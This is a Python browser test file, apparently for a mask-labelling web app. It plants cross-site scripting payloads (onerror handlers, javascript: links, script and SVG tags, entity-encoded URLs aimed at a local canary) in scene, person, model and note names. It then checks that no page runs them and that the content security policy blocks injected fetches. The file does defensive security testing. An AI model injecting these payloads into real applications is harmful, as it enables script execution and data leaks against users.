"""Names of scenes, views, people and models, and notes, hold markup: no page runs it, fetches for it or makes a link of it.

The first test switches the browser's content security policy off, so that only what the pages themselves do is looked at; the
others look at the policy.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from db.labels.store import LabelStore, NewLabel
from db.runs import RunStore
from db.schema.session import open_database
from engine.types import MaskKey, MaskPair
from tests.browser.app_process import WAIT_MS, running_app
from tests.http_attacker import canary

pytestmark = pytest.mark.browser

TABS = {
    "Judge": "#mg-verdict .mg-verdict",
    "Review": "#mg-review .rv-crop",
    "History": "#mg-history-details",
    "People": "#mg-people-shown",
    "3D grouping": "#mg-group-room",
    "Retrain": "#mg-train-table",
    "Compare": "#mg-compare-tables",
}


@dataclass(frozen=True)
class Trap:
    """An app full of names that would ask the canary something."""

    address: str
    canary: str
    asked: list[str]


def folder_names(place: str) -> list[str]:
    """Names without a slash, as folders have them: HTML and Markdown know other ways to write one."""
    port = place.rpartition(":")[2]
    return [
        f"<img src=&#47;&#47;127.0.0.1:{port}&#47;folder onerror=hacked=1>",
        f"![t](http:&sol;&sol;127.0.0.1:{port}&sol;folder)",
        "[x](javascript:hacked=1)",
    ]


def free_names(place: str) -> list[str]:
    """Names of people and models, and notes."""
    return [
        f"![t]({place}/a)",
        f"<img src={place}/b>",
        "<img src=x onerror=hacked=1>",
        "[x](javascript:hacked=1)",
        f"</td><script src={place}/c></script>",
        f"<svg><image href={place}/d>",
    ]


def write_scene(folder: Path, views: list[str]) -> None:
    """Write a scene of two objects, red and blue, seen in each of the views."""
    ids = np.full((48, 64), -1, np.int32)
    ids[8:40, 4:28], ids[8:40, 36:60] = 7001, 7002
    picture = np.full((48, 64, 3), 120, np.uint8)
    picture[ids == 7001], picture[ids == 7002] = (200, 30, 30), (30, 30, 200)
    for view in views:
        (folder / view).mkdir(parents=True)
        Image.fromarray(picture).save(folder / view / "rgb.png")
        np.save(folder / view / "instance_mask.npy", ids)
        np.save(folder / view / "unique_instances.npy", np.array([7001, 7002], np.int32))


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    folder = tmp_path_factory.mktemp("names")
    with canary() as (place, asked):
        scenes = folder_names(place)
        for scene in scenes:
            write_scene(folder / "scenes" / scene, folder_names(place))
        database = folder / "data" / "labels.db"
        engine = open_database(str(database))
        a, b, _ = folder_names(place)
        for number, person in enumerate(free_names(place)):
            for scene in scenes:
                for left, right in ((7001, 7001), (7001, 7002)):
                    said = "same" if (number + left + right) % 2 else "different"
                    pair = MaskPair(MaskKey(a, left), MaskKey(b, right))
                    label = NewLabel(person, scene, pair, said, model=person, p_same=0.5, ambiguity=0.0, queue=person)
                    LabelStore(engine).add(label)
        for number, note in enumerate(free_names(place)):
            run = RunStore(engine).add("training", f"run-{number + 1}", config={"parent": note, "pairs": note, "model": note})
            RunStore(engine).update(run.id, status="failed", note=note, result={"note": note})
        engine.dispose()
        models = [flag for name in free_names(place) for flag in ("--also", name)]
        with running_app(database, "--scenes", str(folder / "scenes"), *models) as address:
            yield Trap(address, place, asked)


def check_harmless(page: Page, trap: Trap) -> None:
    """Look at the page as it is now."""
    assert page.evaluate("window.hacked") is None
    bad = page.evaluate(
        """(place) => [...document.querySelectorAll('img, image, script, iframe, link, a, video, source, object, embed')]
        .map((found) => found.src || found.href?.baseVal || found.href || found.data || '')
        .filter((address) => /^javascript:/i.test(address) || address.startsWith(place))""",
        trap.canary,
    )
    assert bad == []
    assert trap.asked == []


def open_tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name, exact=True).click()
    expect(page.locator(TABS[name]).first).to_be_visible(timeout=WAIT_MS)


def test_no_page_and_no_toast_does_what_a_name_says(chromium: Browser, trap: Trap) -> None:
    page = chromium.new_context(bypass_csp=True, viewport={"width": 1400, "height": 1000}).new_page()
    page.set_default_timeout(WAIT_MS)
    page.goto(trap.address)
    # A name typed before the page is open would be taken for one that it opens with.
    expect(page.locator("#mg-verdict .mg-headline").first).to_be_visible(timeout=WAIT_MS)
    scenes = folder_names(trap.canary)
    person = free_names(trap.canary)[0]

    page.locator("#mg-annotator textarea, #mg-annotator input").first.fill(person)
    page.locator("#mg-same").click()
    saved = page.locator("#mg-saved")
    expect(saved).to_contain_text(person, timeout=WAIT_MS)
    page.get_by_text("Latest labels of this scene").click()
    expect(page.locator("#mg-latest")).to_contain_text(f"(by {person}")
    check_harmless(page, trap)
    # A model that cannot be loaded says so, with its name; so does the score of a blind test.
    page.locator("#mg-rival input").click()
    page.get_by_role("option", name=free_names(trap.canary)[1], exact=True).click()
    expect(page.locator("#mg-verdict")).to_contain_text(free_names(trap.canary)[1], timeout=WAIT_MS)
    check_harmless(page, trap)

    open_tab(page, "Review")
    for scene in scenes:
        page.locator("#mg-review-scene input").click()
        page.get_by_role("option", name=scene, exact=True).click()
        expect(page.locator("#mg-review .rv-crop").first).to_be_visible()
    check_harmless(page, trap)

    open_tab(page, "History")
    cells = page.locator("#mg-history").get_by_role("gridcell")
    expect(cells.filter(has_text=person).first).to_be_visible(timeout=WAIT_MS)
    check_harmless(page, trap)
    other = free_names(trap.canary)[5]
    cells.filter(has_text=other).first.click()
    expect(page.locator("#mg-history-details")).to_contain_text(other, timeout=WAIT_MS)
    check_harmless(page, trap)
    undo = page.locator("#mg-history-undo")
    expect(undo).to_be_enabled(timeout=WAIT_MS)
    undo.click()
    toast = page.get_by_test_id("toast-body").first
    expect(toast).to_contain_text(other, timeout=WAIT_MS)
    check_harmless(page, trap)

    open_tab(page, "People")
    expect(page.locator("#mg-people")).to_contain_text(person, timeout=WAIT_MS)
    for _ in range(3):
        page.locator("#mg-people-next").click()
        expect(page.locator("#mg-people-shown")).to_contain_text(person, timeout=WAIT_MS)
        check_harmless(page, trap)

    open_tab(page, "3D grouping")
    for scene in scenes:
        page.locator("#mg-group-scene input").click()
        page.get_by_role("option", name=scene, exact=True).click()
        page.wait_for_timeout(1000)
        check_harmless(page, trap)

    open_tab(page, "Retrain")
    expect(page.locator("#mg-train-table")).to_contain_text(free_names(trap.canary)[0], timeout=WAIT_MS)
    check_harmless(page, trap)
    page.locator("#mg-train-run input").click()
    page.get_by_role("option", name="run-3", exact=True).click()
    expect(page.locator("#mg-train-progress")).to_contain_text("onerror=hacked=1", timeout=WAIT_MS)
    page.get_by_text("Settings", exact=True).click()
    page.locator("#mg-train-name textarea, #mg-train-name input").first.fill(free_names(trap.canary)[0])
    page.locator("#mg-train-start").click()
    expect(page.get_by_test_id("toast-body").filter(has_text="/a)").first).to_be_visible(timeout=WAIT_MS)
    check_harmless(page, trap)

    open_tab(page, "Compare")
    check_harmless(page, trap)


def test_the_policy_stops_what_a_page_would_let_through(chromium: Browser, trap: Trap) -> None:
    page = chromium.new_page()
    page.goto(trap.address)
    expect(page.locator("#mg-verdict .mg-verdict").first).to_be_visible(timeout=WAIT_MS)
    refused = page.evaluate(
        """async (place) => {
        const refused = [];
        document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
        const box = document.createElement('div');
        document.body.append(box);
        box.innerHTML = `<img src=${place}/i><img src=x onerror="hacked=1"><iframe src=${place}/f></iframe>`
          + `<object data=${place}/o></object>`
          + `<a id=js href="javascript:hacked=1">x</a><video src=${place}/v></video><style>@import url(${place}/s)</style>`;
        box.append(Object.assign(document.createElement('script'), {textContent: 'hacked=1'}));
        box.append(Object.assign(document.createElement('script'), {src: place + '/x'}));
        box.querySelector('#js').click();
        for (const send of [() => fetch(place + '/e'), () => navigator.sendBeacon(place + '/b'), () => import(place + '/m')]) {
          try { await send(); } catch { /* as it should be */ }
        }
        await new Promise((resolve) => setTimeout(resolve, 2000));
        return refused;
        }""",
        trap.canary,
    )
    assert {"img-src", "script-src-attr", "script-src-elem", "frame-src", "object-src", "connect-src", "media-src"} <= set(refused)
    check = page.evaluate("window.hacked")
    assert check is None
    assert trap.asked == []


def test_all_pages_work_under_the_policy(chromium: Browser, app_address: str) -> None:
    page = chromium.new_context(viewport={"width": 1400, "height": 1000}).new_page()
    page.set_default_timeout(WAIT_MS)
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: told.append(str(error)))
    page.add_init_script("document.addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective));")
    page.goto(app_address)
    for name, place in TABS.items():
        page.get_by_role("tab", name=name, exact=True).click()
        expect(page.locator(place).first).to_be_visible(timeout=WAIT_MS)
        page.wait_for_timeout(1500)
    expect(page.locator("#mg-compare-plots .mg-figure .main-svg").first).to_be_visible()
    page.get_by_role("tab", name="3D grouping", exact=True).click()
    expect(page.locator("#mg-group-room canvas").first).to_be_visible()
    assert told == []
